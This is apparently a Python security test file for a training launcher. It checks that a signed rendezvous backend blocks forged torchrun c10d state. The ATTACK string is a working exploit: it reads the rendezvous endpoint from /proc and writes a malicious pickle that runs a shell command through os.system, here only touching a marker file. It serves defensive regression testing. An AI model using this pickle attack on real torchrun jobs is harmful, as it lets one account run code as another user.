"""Issue 33, finding 2: the rendezvous store. torchrun's c10d agents keep their rendezvous state,
pickled, in the head agent's TCP store: unauthenticated, on every interface, its endpoint and id on
torchrun's command line. An account that reaches the port could write that state and run code as
the job's owner. The batch script's torchrun now uses hpctrain's backend (launchers/rdzv.py): the
same state signed with the job key, refused unread when the signature does not match.

Live: a real run (local executor, real torchrun agents on 2 simulated nodes, gloo), attacked by a
second, unprivileged account that reads the endpoint from /proc as anyone can and writes a pickle
that would run a command there. On the c10d backend the command ran as root within a second."""

from __future__ import annotations

import base64
import pickle
import time
from datetime import timedelta
from pathlib import Path

import pytest
from _accounts import other_account
from test_in_job_restart import Job
from torch.distributed import TCPStore
from torch.distributed.elastic.rendezvous import RendezvousStateError
from torch.distributed.elastic.rendezvous.c10d_rendezvous_backend import C10dRendezvousBackend

from hpctrain.kernel import jobkey
from hpctrain.launchers.rdzv import WRITES_KEY, Signed

ATTACK = r"""
import base64, os, pickle, sys, time
from datetime import timedelta
from torch.distributed import TCPStore

marker, deadline, found = sys.argv[1], time.time() + 90, None
while not found and time.time() < deadline:  # what any account reads: torchrun's command line
    for pid in os.listdir("/proc"):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().decode().split("\0")
        except (OSError, UnicodeDecodeError):
            continue
        opts = dict(a.split("=", 1) for a in argv if a.startswith(("--rdzv-endpoint=", "--rdzv-id=")))
        if len(opts) == 2:
            found = opts
            break
    time.sleep(0.1)
assert found, "no torchrun agent found"
host, port = found["--rdzv-endpoint"].rsplit(":", 1)


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {marker}",))


store = TCPStore(host, int(port), is_master=False, timeout=timedelta(seconds=20),
                 wait_for_workers=False)
key = "torch.rendezvous." + found["--rdzv-id"]
wrote = 0
for _ in range(50):  # the agents read the state about twice a second
    try:
        store.set(key, base64.b64encode(pickle.dumps(Payload())).decode())
        store.add(WRITES + found["--rdzv-id"], 1)  # what makes the agents read it (rdzv.Writes)
    except Exception:  # the head agent left (it refused the state, or the pickle broke it)
        break
    wrote += 1
    time.sleep(0.1)
print("wrote", key, wrote, "times at", host, port, flush=True)
assert wrote
"""
ATTACK = f"WRITES = {WRITES_KEY!r}\n" + ATTACK  # the key of rdzv.Writes


@pytest.mark.slow
@pytest.mark.timeout(400)
def test_another_account_cannot_run_code_through_the_rendezvous_store(tmp_path):
    job = Job(tmp_path, "rdzv")
    job.submit(train=["--strategy", "ddp", "--max-steps=100000", "--checkpoint-every=100000"])
    try:
        with other_account("r") as attacker:
            marker = attacker.home / "ran-as-the-owner"
            deadline = time.monotonic() + 240
            while not job.steps():  # past the rendezvous: training
                assert job.state() in ("PENDING", "RUNNING"), job.state()
                assert time.monotonic() < deadline, "the run never trained"
                time.sleep(0.2)
            out = attacker.python(ATTACK, str(marker), timeout=150)
            assert out.returncode == 0, out.stdout + out.stderr
            deadline = time.monotonic() + 30
            while time.monotonic() < deadline and job.state() == "RUNNING":
                assert not marker.exists(), "the attacker's pickle ran as the job's owner"
                time.sleep(0.2)
            assert not marker.exists(), "the attacker's pickle ran as the job's owner"
    finally:
        if job.state() in ("PENDING", "RUNNING"):
            job.home.hp("cancel", job.name)
        job.wait()
    said = "\n".join(p.read_text(errors="replace") for p in job.run.rglob("*.log"))
    assert "is not signed by this job" in said, said[-3000:]


def _store() -> TCPStore:
    return TCPStore(
        "127.0.0.1", 0, is_master=True, timeout=timedelta(seconds=5), wait_for_workers=False
    )


def test_signed_state_round_trips_and_a_forged_one_is_refused_unread():
    store, secret = _store(), bytes(range(32))
    signed = Signed(C10dRendezvousBackend(store, "job-1"), secret, "job-1", "127.0.0.1:1")
    assert signed.get_state() is None
    bits, token, mine = signed.set_state(b"state one")  # type: ignore[misc]
    assert (bits, mine) == (b"state one", True)
    assert signed.get_state() == (b"state one", token)
    # what another account writes: torch's own encoding of any bytes, without the key
    store.set("torch.rendezvous.job-1", base64.b64encode(pickle.dumps({"x": 1})).decode())
    with pytest.raises(RendezvousStateError, match="not signed by this job"):
        signed.get_state()
    # signed with another job's key, or replayed under another run id
    other = Signed(C10dRendezvousBackend(store, "job-2"), bytes(32), "job-2", "127.0.0.1:1")
    other.set_state(b"theirs")
    raw = store.get("torch.rendezvous.job-2")
    store.set("torch.rendezvous.job-1", raw)
    with pytest.raises(RendezvousStateError, match="not signed by this job"):
        signed.get_state()


def test_the_backend_needs_the_job_key(monkeypatch):
    from torch.distributed.elastic.rendezvous import RendezvousParameters

    from hpctrain.kernel import jobenv
    from hpctrain.launchers.rdzv import create

    monkeypatch.delenv(jobenv.JOB_KEY, raising=False)
    params = RendezvousParameters(jobkey.RDZV_BACKEND, "127.0.0.1:0", "j", 1, 1)
    with pytest.raises(RendezvousStateError, match=jobenv.JOB_KEY):
        create(params)


@pytest.mark.parametrize("profile", ["local", "loopback"])
def test_the_batch_script_draws_a_key_and_launches_the_signed_backend(profile):
    text = (Path(__file__).parent / "golden" / f"{profile}.sh").read_text()  # test_golden: current
    assert "od -vAn -N32 -tx1 /dev/urandom" in text  # drawn when the script runs, never written
    assert f"--rdzv-backend={jobkey.RDZV_BACKEND}" in text and "rdzv-backend=c10d" not in text
